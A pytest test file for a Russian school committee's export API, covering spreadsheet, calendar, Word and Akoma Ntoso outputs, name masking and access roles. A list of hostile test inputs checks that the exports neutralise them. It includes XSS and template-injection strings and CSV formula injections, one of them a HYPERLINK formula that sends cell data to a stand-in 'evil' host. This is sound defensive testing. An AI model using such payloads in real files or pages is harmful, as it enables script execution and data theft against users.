import datetime as dt
import json
from io import BytesIO
from pathlib import Path

import openpyxl
import pytest
from docx import Document
from docx.shared import Mm
from icalendar import Calendar, Event
from sqlalchemy import insert, select

from api.exports import EXPORTS
from models.people_tables import AccessRow, UserRole
from models.session import reading, writing
from models.tables import SchoolRow
from tests.api.exports.taken_out import (
    FORMS,
    WORD_FORMS,
    address,
    faults_of,
    filled,
    part,
    taken,
    texts_in,
    texts_of_office,
)
from tests.api.problems import problem_of
from tests.api.site import Site


def know_school(site: Site, name: str = "МБОУ СОШ № 5") -> None:
    empty = dict.fromkeys(("region", "locality", "kind", "number", "folded"), "")
    with writing(site.engine) as session:
        session.execute(
            insert(SchoolRow).values(
                id="s-5", municipality="Озёрный район", municipality_key="", name=name,
                short_name=name, aliases=[], revision=1, **empty,
            )
        )  # fmt: skip


def test_every_form_is_listed(site: Site, root: Path):
    listed = site.client.get("/api/v1/exports").json()["items"]
    assert [each["form"] for each in listed] == list(EXPORTS)
    assert set(EXPORTS) == set(FORMS)
    told = (root / "api" / "README.md").read_text("utf-8")
    assert [form for form in EXPORTS if f"`{form}`" not in told] == []


@pytest.mark.parametrize("form", FORMS)
def test_every_form_comes_as_an_attachment_and_holds_the_point(site: Site, form: str):
    know_school(site)
    response = site.client.get(address(form, filled(site)))
    assert response.status_code == 200, response.text
    assert response.headers["content-disposition"].startswith("attachment; ")
    assert response.headers["content-type"] == EXPORTS[form].media_type
    assert int(response.headers["content-length"]) == len(response.content)
    assert any("Представить план работы." in text for text in texts_in(form, response.content))


# -- what is wrong is told ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("query", "status", "code"),
    [
        ("doc", 404, "not-found"),
        ("extract", 422, "invalid-request"),
        ("extract?protocol=99", 404, "not-found"),
        ("extract?protocol=1&decision=99", 404, "not-found"),
        ("reminder", 422, "invalid-request"),
        ("reminder?school=s-77", 404, "not-found"),
        ("xlsx?due_before=31.02.2024", 422, "invalid-request"),
    ],
)
def test_what_cannot_be_exported(site: Site, query: str, status: int, code: str):
    filled(site)
    problem_of(site.client.get(f"/api/v1/exports/{query}"), status, code)


def test_paper_takes_so_many_lines(site: Site, monkeypatch: pytest.MonkeyPatch):
    from dataclasses import replace

    monkeypatch.setitem(EXPORTS, "unexecuted", replace(EXPORTS["unexecuted"], most=2))
    protocol = filled(site, "Ещё один пункт.")
    problem_of(site.client.get(address("unexecuted", protocol)), 422, "too-many-lines")


# -- texts that do harm: bad-inputs C31–C34 ----------------------------------------------------

LITERAL = [
    "<img src=x onerror=alert(1)>",
    "{{7*7}} ${7*7} {% raw %}",
    "<script>alert(1)</script>",
    '=HYPERLINK("http://evil"&A1)',
    "+79990000000",
    "-5",
    "@SUM(A1)",
    "=1+1\nвторая строка",
    "СОШ <№5> & Co",
    "CОШ с латинской C",
    "]]> <!-- & &amp; _x0041_",
    "а" + "\u0301" * 1000,
]
CLEANED = [
    ("Утвердить \u202eналп\u202c", "Утвердить налп"),
    ("нуль\x00 и\x07 \ufffe конец", "нуль\ufffd и  конец"),
    ("и\u0306огурт", "йогурт"),
]


@pytest.mark.parametrize("form", FORMS)
def test_texts_stand_literally(site: Site, form: str):
    know_school(site, "СОШ <№5> & Co")
    content = taken(site, form, filled(site, *LITERAL, *(text for text, _ in CLEANED)))
    # The reminder is of one school, whose name stands in it.
    expected = [text for _, text in CLEANED] + LITERAL
    expected = ["СОШ <№5> & Co"] if form == "reminder" else expected
    whole = "\n".join(texts_in(form, content)).replace("\r\n", "\n")
    assert [text for text in expected if text not in whole] == []


def test_a_cell_of_csv_that_would_be_a_formula_is_marked(site: Site):
    lines = taken(site, "csv", filled(site, "=1+1", "@SUM")).decode("utf-8-sig")
    assert ";'=1+1;" in lines and ";'@SUM;" in lines


# -- tables ------------------------------------------------------------------------------------


def test_workbook_has_real_days_filters_and_the_conditions(site: Site):
    protocol = filled(site)
    book = openpyxl.load_workbook(
        BytesIO(taken(site, "xlsx", protocol, due_before="2024-12-31", as_of="2024-10-20"))
    )
    sheet, conditions = book["Решения"], book["Условия отбора"]
    titles = [cell.value for cell in sheet[1]]
    row = dict(zip(titles, sheet[2], strict=True))
    assert row["Срок исполнения"].value == dt.datetime(2024, 10, 1)
    assert row["Срок исполнения"].number_format == "dd.mm.yyyy"
    assert row["Дата протокола"].value == dt.datetime(2024, 9, 12)
    assert row["Ответственный исполнитель"].value == "Луговой П.П., директор школы"
    assert row["Соисполнители"].value == "Серова А.А."
    assert sheet.auto_filter.ref == f"A1:{sheet.cell(sheet.max_row, len(titles)).coordinate}"
    assert sheet.freeze_panes == "A2"
    told_there = {line[0].value: line[1].value for line in conditions}
    assert told_there["Срок не позже"] == "31.12.2024"
    assert told_there["Реестр на день"] == "20.10.2024"
    assert told_there["Выгружено"] == "21.10.2024 15:00"
    assert told_there["Кем"] == "Пробный режим"


def test_json_gives_the_lines_of_the_api(site: Site):
    protocol = filled(site)
    items = json.loads(taken(site, "json", protocol))["items"]
    assert items == site.client.get(f"/api/v1/decisions?protocol={protocol}").json()["items"]


def test_calendar_has_whole_days_that_last_till_the_next(site: Site):
    events = Calendar.from_ical(taken(site, "ics", filled(site))).walk("VEVENT")
    days = [(event.start, event.end) for event in events if isinstance(event, Event)]
    assert days == [(dt.date(2024, 10, 1), dt.date(2024, 10, 2))]


@pytest.mark.parametrize("form", ["xlsx", "csv", "json", "ics", "unexecuted", "assignments"])
def test_an_empty_register_makes_an_empty_table(site: Site, form: str):
    assert site.client.get(f"/api/v1/exports/{form}").status_code == 200


# -- print forms -------------------------------------------------------------------------------


@pytest.mark.parametrize("form", WORD_FORMS)
def test_paper_is_by_the_standard(site: Site, form: str):
    know_school(site)
    content = taken(site, form, filled(site))
    sheets = Document(BytesIO(content))
    section = sheets.sections[0]
    edges = (section.left_margin, section.right_margin, section.top_margin, section.bottom_margin)
    assert [round((edge or 0) / Mm(1)) for edge in edges] == [20, 10, 20, 20]
    sides = (section.page_width, section.page_height)
    assert sorted(round((side or 0) / Mm(1)) for side in sides) == [210, 297]
    assert sheets.styles["Normal"].font.name == "Times New Roman"
    assert "PAGE" in section.header._element.xml and section.different_first_page_header_footer
    assert sheets.core_properties.author == "Протоколист"
    for table in sheets.tables:
        assert "w:tblHeader" in part(content, "word/document.xml")
        assert all(len(row.cells) == len(table.columns) for row in table.rows)


def test_unexecuted_tells_what_is_late_and_leaves_resolutions_out(site: Site):
    whole = "\n".join(texts_in("unexecuted", taken(site, "unexecuted", filled(site))))
    assert "по состоянию на 21.10.2024" in whole
    assert "просрочено на 20 дней" in whole
    assert "Утвердить график" not in whole
    assert "Всего: 1 решение, просрочено: 1." in whole


def test_extract_has_the_questions_and_certifies(site: Site):
    protocol = filled(site)
    lines = texts_in("extract", taken(site, "extract", protocol))
    assert lines[:4] == [
        "Комиссия по качеству образования",
        "",
        "ВЫПИСКА ИЗ ПРОТОКОЛА",
        "12.09.2024 № 4",
    ]
    assert "1. О планах" in lines
    assert "1.2. Утвердить график." in lines
    assert "Ответственные: Луговой П.П., директор школы; Серова А.А. Срок: до 01.10.2024." in lines
    assert "Верно" in lines


def test_extract_of_one_decision(site: Site):
    protocol = filled(site)
    second = site.client.get(f"/api/v1/protocols/{protocol}").json()["decisions"][1]["id"]
    whole = "\n".join(texts_in("extract", taken(site, "extract", protocol, decision=second)))
    assert "Утвердить график." in whole and "Представить план" not in whole


def test_reminder_is_addressed_to_the_school(site: Site):
    know_school(site)
    whole = "\n".join(texts_in("reminder", taken(site, "reminder", filled(site))))
    assert "Руководителю\nМБОУ СОШ № 5" in whole
    assert "на 21.10.2024 числится неисполненным: 1 решение, с истёкшим сроком: 1." in whole
    assert "Протокол, пункт" in whole and "№ 4 от 12.09.2024, п. 1.1" in whole


def test_assignments_have_three_columns_and_nothing_else(site: Site):
    sheets = Document(BytesIO(taken(site, "assignments", filled(site))))
    assert [paragraph.text for paragraph in sheets.paragraphs if paragraph.text] == []
    assert [[cell.text for cell in row.cells] for row in sheets.tables[0].rows] == [
        ["Текст поручения", "Ответственный", "Срок"],
        ["Представить план работы.", "Луговой П.П., директор школы; Серова А.А.", "01.10.2024"],
    ]


# -- Akoma Ntoso -------------------------------------------------------------------------------


def test_akoma_ntoso_is_valid(site: Site):
    content = taken(site, "akn", filled(site, *LITERAL))
    assert faults_of(content) == []
    text = content.decode()
    assert '<date date="2024-10-01">до 01.10.2024</date>' in text
    assert 'showAs="Луговой П.П."' in text
    assert 'eId="dbsect_1__dbsect_2"' in text


def test_akoma_ntoso_of_a_bare_protocol_is_valid(site: Site):
    assert faults_of(taken(site, "akn", site.keep())) == []


def test_the_schema_can_find_a_fault(site: Site):
    content = taken(site, "akn", filled(site)).replace(b"rollCall", b"rollcall")
    assert faults_of(content) != []


# -- names -------------------------------------------------------------------------------------

NAMES = ("Лугов", "Серов", "Зимин", "Вешн", "Тих", "Рябинин", "Дубров")


@pytest.mark.parametrize("form", FORMS)
def test_names_are_hidden_when_asked(site: Site, form: str):
    know_school(site)
    protocol = filled(site, "Поручить Рябининой О.И. и Дуброву Илье Ильичу отчёт о СОШ № 5.")
    whole = "\n".join(texts_in(form, taken(site, form, protocol, masked="true")))
    assert [name for name in NAMES if name in whole] == []
    assert "СОШ № 5" in whole or form in ("unexecuted", "reminder", "assignments", "ics", "extract")


# -- what is found, who takes it ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("query", "points"),
    [
        ("", ["1.1", "1.2", "2.1"]),
        ("kind=resolution", ["1.2"]),
        ("timeliness=overdue", ["1.1"]),
        ("execution=in_work&due_after=2024-11-01", ["2.1"]),
        ("control=on_control&overdue=true", ["1.1"]),
        ("responsible=Луговой&needs_review=false", ["1.1"]),
        ("held_after=2024-09-13", []),
        ("timeliness=overdue&as_of=2024-09-20", []),
    ],
)
def test_filters_of_decisions_and_of_control(site: Site, query: str, points: list[str]):
    filled(site, "Подготовить отчёт.")
    items = json.loads(site.client.get(f"/api/v1/exports/json?{query}").content)["items"]
    assert sorted(item["path"] for item in items) == points


def test_conditions_of_control_are_told(site: Site):
    filled(site)
    address = "/api/v1/exports/json?timeliness=overdue&execution=in_work&execution=returned"
    conditions = json.loads(site.client.get(address).content)["conditions"]
    assert conditions == {
        "Соблюдение срока": "просрочено",
        "Исполнение": "в работе, возвращено на доработку",
    }


def taken_out(site: Site) -> list[tuple[str, str, str]]:
    with reading(site.engine) as session:
        rows = session.scalars(select(AccessRow).filter_by(action="taken")).all()
        return [(row.actor, row.noun, row.noun_id) for row in rows]


def test_names_taken_out_are_noted(site: Site):
    protocol = filled(site)
    taken(site, "csv", protocol, masked="true")
    assert taken_out(site) == []
    taken(site, "csv", protocol)
    assert taken_out(site) == [("Пробный режим", "export", "csv")]


def test_a_page_waits_for_a_small_register_only(site: Site, monkeypatch: pytest.MonkeyPatch):
    filled(site)
    assert site.client.get("/exports/csv?text=&kind=").status_code == 200
    monkeypatch.setattr("api.routes.exports.MOST_AT_ONCE", 1)
    answer = site.client.get("/exports/csv?text=&kind=", follow_redirects=False)
    assert (answer.status_code, answer.headers["location"][:12]) == (303, "/jobs/export")


@pytest.mark.parametrize(
    ("role", "status"), [("secretary", 200), ("controller", 200), ("auditor", 200), ("reader", 403)]
)
def test_who_may_take_out(site: Site, role: UserRole, status: int):
    site.person("person", role)
    browser = site.signed_in("person")
    assert browser.get("/api/v1/exports/csv").status_code == status
    assert browser.post("/api/v1/exports/csv").status_code == (202 if status == 200 else status)


def test_another_committee_is_not_there(site: Site):
    protocol = filled(site)
    site.person("person", "secretary", committee=site.committee("Другая комиссия"))
    browser = site.signed_in("person")
    assert "Представить план" not in browser.get("/api/v1/exports/csv").text
    problem_of(browser.get(address("extract", protocol)), 404, "not-found")


# -- programs that open it ---------------------------------------------------------------------


def test_word_forms_open_in_libreoffice(site: Site):
    """All of them in one go of the program: it takes a second to start."""
    know_school(site)
    protocol = filled(site, *LITERAL)
    forms = {form: taken(site, form, protocol) for form in WORD_FORMS}
    texts = texts_of_office(forms)
    assert "ВЫПИСКА ИЗ ПРОТОКОЛА" in texts["extract"]
    assert "СПРАВКА" in texts["execution"] and "{{7*7}}" in texts["execution"]
    assert {form for form, text in texts.items() if "Представить план работы." in text} == set(
        WORD_FORMS
    )
